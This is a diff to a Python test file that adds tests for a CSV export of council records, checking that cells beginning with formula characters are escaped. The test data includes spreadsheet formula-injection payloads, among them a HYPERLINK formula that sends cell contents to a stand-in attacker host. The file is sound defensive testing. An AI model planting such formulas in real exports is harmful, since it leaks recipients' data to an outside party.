@@ -4,6 +4,7 @@ nothing after expiry; and a record of who was given access that two shares canno
 from __future__ import annotations
 
 import csv
+import io
 import json
 import subprocess
 import sys
@@ -14,15 +15,25 @@ import urllib.request
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
+import pyarrow as pa
+import pyarrow.parquet as pq
 import pytest
 
-from annual_review.access.share import CSV_COLUMNS, append_record, link_expiry, share_letters
+from annual_review.access.share import (
+    CSV_COLUMNS,
+    append_record,
+    link_expiry,
+    share_letters,
+    spreadsheet_text,
+)
 from annual_review.clock import system_clock
 from annual_review.errors import PipelineError
 from annual_review.layout import RELEASES_KEY
 from annual_review.store.local import LocalStore
 from annual_review.store.s3 import S3Store
+from annual_review.tables import SCHEMAS
 from annual_review.years import BusinessYear
+from tests.helpers.commands import cli
 from tests.helpers.release_fixtures import CODES, candidate_files, stage
 from tests.helpers.s3_server import BUCKET, SeaweedServer
 
@@ -173,3 +184,69 @@ def test_shares_at_the_same_time_lose_no_record(staged_s3: S3Store) -> None:
         thread.join()
     records = [json.loads(line) for line in staged_s3.get(key).splitlines()]
     assert sorted((r["worker"], r["n"]) for r in records) == [(w, n) for w in range(4) for n in range(3)]
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
+        ("+44 20 7946 0000", "'+44 20 7946 0000"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(1+1)", "'@SUM(1+1)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("Kettering Borough Council", "Kettering Borough Council"),
+        ("Smith-Jones = chief", "Smith-Jones = chief"),  # only the first character makes a formula
+        ("O'Brien", "O'Brien"),
+        ("", ""),
+    ],
+)
+def test_a_text_cell_never_starts_a_formula(cell: str, written: str) -> None:
+    assert spreadsheet_text(cell) == written
+
+
+HOSTILE = {  # what an authorities export may say, row by row (CODES order)
+    "authority_name": ['=HYPERLINK("http://evil.example/?"&A1,"Open")', 'Kettering, "North" Borough'],
+    "chief_executive": ["@SUM(1+1)", "-2+3"],
+}
+
+
+def hostile_authorities() -> bytes:
+    schema = SCHEMAS["authorities"]
+    table = pq.read_table(pa.BufferReader(candidate_files(YEAR)["data/authorities.parquet"]))
+    for column, values in HOSTILE.items():
+        table = table.set_column(table.schema.get_field_index(column), schema.field(column), [values])
+    sink = io.BytesIO()
+    pq.write_table(table, sink)
+    return sink.getvalue()
+
+
+@pytest.mark.s3
+def test_the_mail_merge_csv_starts_no_formula(
+    seaweed: SeaweedServer, s3_credentials: None, tmp_path: Path
+) -> None:
+    store = seaweed.store()
+    stage(store, YEAR, files={**candidate_files(YEAR), "data/authorities.parquet": hostile_authorities()})
+    release = (system_clock() + timedelta(days=1)).isoformat()
+    done = cli(
+        "share", "--year", YEAR.label, "--store", store.url, "--csv", "links.csv", "--by", "t",
+        cwd=tmp_path,
+        AWS_ENDPOINT_URL=seaweed.endpoint,
+        ANNUAL_REVIEW_RELEASE_TIMES=json.dumps({YEAR.label: release}),
+    )  # fmt: skip
+    assert done.returncode == 0, done.stderr
+    text = (tmp_path / "links.csv").read_text(encoding="utf-8")
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert [r["authority_code"] for r in rows] == sorted(CODES)
+    assert [r["authority_name"] for r in rows] == [
+        "'" + HOSTILE["authority_name"][0],
+        HOSTILE["authority_name"][1],
+    ]
+    assert [r["chief_executive"] for r in rows] == ["'@SUM(1+1)", "'-2+3"]
+    assert all(get(r["pdf_url"])[0] == 200 for r in rows)  # the links are untouched
+    for line in text.splitlines()[1:]:  # every cell is quoted: no separator of any locale splits one
+        assert line.startswith('"') and line.endswith('"'), line
+    (record,) = [json.loads(line) for line in store.get("staging/2019-20/access-log.jsonl").splitlines()]
+    assert [r["authority_name"] for r in record["recipients"]] == HOSTILE[
+        "authority_name"
+    ]  # the record as is
